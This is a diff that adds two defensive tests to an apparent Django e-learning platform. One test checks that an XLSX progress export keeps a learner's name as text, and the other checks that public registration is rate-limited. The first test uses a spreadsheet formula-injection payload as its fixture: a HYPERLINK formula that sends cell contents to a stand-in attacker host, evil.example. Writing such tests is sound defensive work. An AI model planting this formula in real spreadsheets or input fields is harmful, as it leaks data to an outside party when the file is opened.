@@ -178,3 +178,53 @@ def test_public_registration_and_enrolment() -> None:
     assert Enrolment.objects.filter(user__username="aigul@example.kz").exists()
     page = client.get(reverse("learning:course", args=[course.pk]))
     assert page.status_code == 200
+
+
+def test_export_keeps_a_learners_self_chosen_name_as_text() -> None:
+    # A public learner names themselves after a formula: the team's XLSX must show the text,
+    # not run it when opened.
+    import io
+
+    import openpyxl
+
+    from kaskad.learning.exports import progress_workbook
+
+    course, _ = published_course(is_public=True)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    learner = services.learner_register(
+        email="formula@example.kz",
+        password="a-long-pass-phrase-42",
+        first_name=hostile,
+        last_name="",
+    )
+    services.enrol(course=course, user=learner)
+    book = openpyxl.load_workbook(io.BytesIO(progress_workbook(course=course)))
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert hostile in [c.value for c in cells]
+    assert not any(c.data_type == "f" for c in cells)
+
+
+def test_public_registration_is_throttled_per_address(settings: Any) -> None:
+    # Anyone may register without an account; without a limit one address could create
+    # accounts (and make the server hash passwords) without end.
+    from django.core.cache import cache
+
+    from kaskad.accounts.models import User
+
+    cache.clear()
+    settings.KASKAD_LEARNING_REGISTER_LIMIT = 2
+    statuses = []
+    for n in range(3):
+        response = Client().post(
+            reverse("learning:register"),
+            {
+                "first_name": "Bot",
+                "last_name": "",
+                "email": f"bot{n}@example.kz",
+                "password": "a-long-pass-phrase-42",
+            },
+        )
+        statuses.append(response.status_code)
+    assert statuses == [302, 302, 429]
+    assert not User.objects.filter(username="bot2@example.kz").exists()
+    cache.clear()
